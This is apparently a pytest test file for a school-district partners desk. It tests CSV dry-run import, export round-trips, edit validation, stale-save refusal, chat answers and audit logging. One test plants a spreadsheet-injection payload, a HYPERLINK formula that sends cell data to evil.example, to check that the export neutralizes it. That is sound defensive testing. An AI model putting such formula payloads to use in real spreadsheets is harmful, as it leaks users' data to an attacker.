"""The desk's partners pages, signed in through the fake identity provider: a CSV checked by a dry run (its
per-row report, nothing written) and then imported; one partnership edited with the importer's checks, and
the chat answering from the edit; the export imports back unchanged; every change in the audit log."""

from __future__ import annotations

import csv
import io
import re

import requests
from sqlalchemy import func, select

from bot.directory.importer import import_partners
from bot.models import AuditEvent, Partnership
from tests.test_desk import Desk, csrf, desk  # noqa: F401  (the fixture)

CSV = """organization,school,services,school_year,agreement_type,status,agreement_signed,agreement_expires
Reading Rockets,Garfield High School,tutoring,2026-27,mou,active,2026-08-01,2027-07-31
Reading Rockets,Lowell Elementary,tutoring; mentoring,2026-27,mou,active,,
Clay Studio,Nowhere Academy,arts,2026-27,psc,active,,
Clay Studio,Garfield High School,arts,2026-27,psc,active,2026-09-01,2026-08-01
"""


def _loaded(page: requests.Response) -> str:
    return re.search(r'name="loaded" value="([^"]+)"', page.text).group(1)


def _signed_in(desk: Desk) -> tuple[requests.Session, requests.Response]:  # noqa: F811
    desk.add_staff("dana@district.example", "Dana Lee")
    return desk.sign_in()


def _partnerships(desk: Desk) -> int:  # noqa: F811
    with desk.runtime.database.session() as session:
        return session.scalar(select(func.count()).select_from(Partnership)) or 0


def _import(desk: Desk, browser: requests.Session, token: str) -> requests.Response:  # noqa: F811
    checked = browser.post(desk.url + "/desk/partners/import", data={"csrf": token, "mode": "dry-run"},
                           files={"file": ("partners.csv", CSV.encode(), "text/csv")}, timeout=20)
    assert checked.status_code == 200, checked.text[:500]
    assert "Dry run, nothing imported: of 4 rows, 2 would be new, 0 updated and 0 unchanged; 2 with problems would be skipped" in checked.text
    assert re.search(r"<th scope=\"row\">4</th><td>[^<]*Nowhere Academy", checked.text)
    assert re.search(r"<th scope=\"row\">5</th><td>agreement_expires is before agreement_signed", checked.text)
    assert _partnerships(desk) == 0  # the dry run wrote nothing
    carried = re.search(r'name="content" value="([^"]+)"', checked.text).group(1)
    return browser.post(desk.url + "/desk/partners/import", data={"csrf": token, "mode": "import", "content": carried},
                        timeout=20)


def test_a_csv_is_checked_by_a_dry_run_then_imported_and_exported_back_unchanged(desk: Desk) -> None:  # noqa: F811
    browser, queue = _signed_in(desk)
    token = csrf(queue)
    done = _import(desk, browser, token)
    assert "2 rows read" not in done.text and "4 rows read: 2 new, 0 updated, 0 unchanged, 2 skipped with problems" in done.text
    assert _partnerships(desk) == 2
    listed = browser.get(desk.url + "/desk/partners?q=reading", timeout=10).text
    assert "2 partnerships." in listed and "<td>Garfield</td>" in listed and "<td>Lowell</td>" in listed
    exported = browser.get(desk.url + "/desk/partners.csv", timeout=10)
    assert exported.headers["Content-Type"].startswith("text/csv")
    lines = exported.text.splitlines()
    assert lines[0].startswith("organization,school,services,school_year,agreement_type,status,contact_email")
    assert "Reading Rockets,Lowell,mentoring; tutoring,2026-27,mou,active" in exported.text
    again = browser.post(desk.url + "/desk/partners/import", data={"csrf": token, "mode": "dry-run"},
                         files={"file": ("export.csv", exported.content, "text/csv")}, timeout=20)
    assert "of 2 rows, 0 would be new, 0 updated and 2 unchanged." in again.text
    assert [a[1] for a in desk.audit() if a[0].startswith("desk:dana")] == [
        "desk.sign_in", "partners.import", "partners.export"]


def test_an_edit_is_checked_like_an_import_row_and_the_chat_answers_from_it(desk: Desk) -> None:  # noqa: F811
    browser, queue = _signed_in(desk)
    _import(desk, browser, csrf(queue))
    with desk.runtime.database.session() as session:
        pid = session.scalars(select(Partnership.id).join(Partnership.school)
                              .where(Partnership.agreement_type == "mou").order_by(Partnership.id)).first()
    visitor = requests.Session()

    def chat(text: str) -> str:
        return visitor.post(desk.url + "/chat", json={"session": "p1", "text": text}, timeout=20).json()["text"]
    assert "Reading Rockets" in chat("tutoring partners at Garfield High School")
    page = browser.get(desk.url + f"/desk/partners/{pid}", timeout=10)
    assert 'value="tutoring"' in page.text and "2026-07-31" not in page.text
    form = {"csrf": csrf(page), "loaded": _loaded(page), "services": "mentoring", "agreement_type": "mou", "status": "active",
            "agreement_signed": "2026-08-01", "agreement_expires": "2026-07-01", "outcomes": ""}
    refused = browser.post(desk.url + f"/desk/partners/{pid}", data=form, timeout=10)
    assert refused.status_code == 400 and "Not saved: agreement_expires is before agreement_signed" in refused.text
    assert 'value="mentoring"' in refused.text  # what was typed stays in the form
    with desk.runtime.database.session() as session:
        assert session.get(Partnership, pid).services[0].service == "tutoring"  # nothing written
    saved = browser.post(desk.url + f"/desk/partners/{pid}", data={**form, "agreement_expires": "2027-07-31",
                                                                   "outcomes": "Reading <b>up</b> 12%"}, timeout=10)
    assert saved.url.endswith("?done=saved") and "Saved." in saved.text and "Reading &lt;b&gt;up&lt;/b&gt; 12%" in saved.text
    assert "Reading Rockets" not in chat("tutoring partners at Garfield High School")
    assert "Reading Rockets" in chat("mentoring partners at Garfield High School")
    with desk.runtime.database.session() as session:
        entry = session.scalars(select(AuditEvent).where(AuditEvent.action == "partnership.edit")).one()
    assert entry.target == "Reading Rockets at Garfield (2026-27)"
    assert entry.before == {"services": "tutoring", "outcomes": ""}
    assert entry.after == {"services": "mentoring", "outcomes": "Reading <b>up</b> 12%"}


def test_a_correction_ticket_links_to_the_entry_it_is_about(desk: Desk) -> None:  # noqa: F811
    browser, queue = _signed_in(desk)
    _import(desk, browser, csrf(queue))
    visitor = requests.Session()
    reported = visitor.post(desk.url + "/chat", json={"session": "c1", "text": "the partner list is wrong: Reading "
                                                      "Rockets isn't at Garfield High School anymore"}, timeout=20).json()
    number = reported["data"]["ticket_id"]
    with desk.runtime.database.session() as session:
        pid = session.scalars(select(Partnership.id).join(Partnership.school).where(Partnership.agreement_type == "mou")
                              .order_by(Partnership.id)).first()
    page = browser.get(desk.url + f"/desk/tickets/{number}", timeout=10).text
    assert f'<a href="/desk/partners/{pid}">Reading Rockets at Garfield (2026-27)</a>' in page


def test_a_save_over_someone_elses_newer_change_is_refused(desk: Desk) -> None:  # noqa: F811
    browser, queue = _signed_in(desk)
    _import(desk, browser, csrf(queue))
    with desk.runtime.database.session() as session:
        pid = session.scalars(select(Partnership.id).order_by(Partnership.id)).first()
    mine = browser.get(desk.url + f"/desk/partners/{pid}", timeout=10)
    theirs = browser.get(desk.url + f"/desk/partners/{pid}", timeout=10)
    base = {"csrf": csrf(mine), "agreement_type": "mou", "agreement_signed": "2026-08-01",
            "agreement_expires": "2027-07-31"}
    first = browser.post(desk.url + f"/desk/partners/{pid}", data={**base, "loaded": _loaded(theirs),
                                                                   "services": "tutoring; mentoring", "status": "active"})
    assert first.url.endswith("?done=saved")
    late = browser.post(desk.url + f"/desk/partners/{pid}", data={**base, "loaded": _loaded(mine),
                                                                  "services": "tutoring", "status": "pending"})
    assert late.status_code == 409 and "nothing was saved" in late.text
    assert 'value="mentoring; tutoring"' in late.text  # the form shows the entry as it now is
    with desk.runtime.database.session() as session:
        partnership = session.get(Partnership, pid)
        assert partnership.status == "active" and len(partnership.services) == 2


def test_the_export_never_hands_a_spreadsheet_a_formula_and_still_imports_back(desk: Desk) -> None:  # noqa: F811
    with desk.runtime.database.session() as session:
        import_partners(session, rows=[{"organization": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
                                        "school": "Garfield", "services": "arts", "school_year": "2026-27",
                                        "agreement_type": "mou", "status": "active", "outcomes": "@SUM(1+1)"}])
    browser, queue = _signed_in(desk)
    exported = browser.get(desk.url + "/desk/partners.csv", timeout=10)
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert rows[0]["organization"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert rows[0]["outcomes"] == "'@SUM(1+1)"
    again = browser.post(desk.url + "/desk/partners/import", data={"csrf": csrf(queue), "mode": "dry-run"},
                         files={"file": ("export.csv", exported.content, "text/csv")}, timeout=20)
    assert "of 1 rows, 0 would be new, 0 updated and 1 unchanged." in again.text
